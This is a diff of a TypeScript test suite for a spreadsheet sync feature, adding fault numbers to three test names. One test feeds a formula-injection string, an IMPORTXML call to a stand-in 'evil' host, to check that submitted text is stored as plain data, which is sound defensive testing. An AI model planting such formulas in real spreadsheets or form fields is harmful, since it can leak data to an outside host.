@@ -136,7 +136,7 @@ describe('a sync run', () => {
     expect(keysOf(app.sheets, 'engagement')).toEqual(['chat']);
   });
 
-  it('writes text as data, whatever it looks like', async () => {
+  it('writes text as data, whatever it looks like (fault 44)', async () => {
     const app = makeApplication();
     const explanation = '=IMPORTXML("http://evil","//x")';
     await app.submit({
@@ -173,7 +173,7 @@ describe('a sync run', () => {
     ]);
   });
 
-  it('plans everything afresh for another spreadsheet', async () => {
+  it('plans everything afresh for another spreadsheet (fault 17)', async () => {
     const first = makeApplication();
     await first.submit({ submission_id: 's1', user_id: 'u1' });
     await first.drain();
@@ -216,7 +216,7 @@ describe('a sync run', () => {
     expect(Number(inTokyo) - Number(berlin)).toBeCloseTo(8 / 24, 6);
   });
 
-  it('splits large work into batches and finishes it', async () => {
+  it('splits large work into batches and finishes it (fault 30)', async () => {
     const app = makeApplication();
     await app.quizSync.setUp();
     const ids: string[] = [];
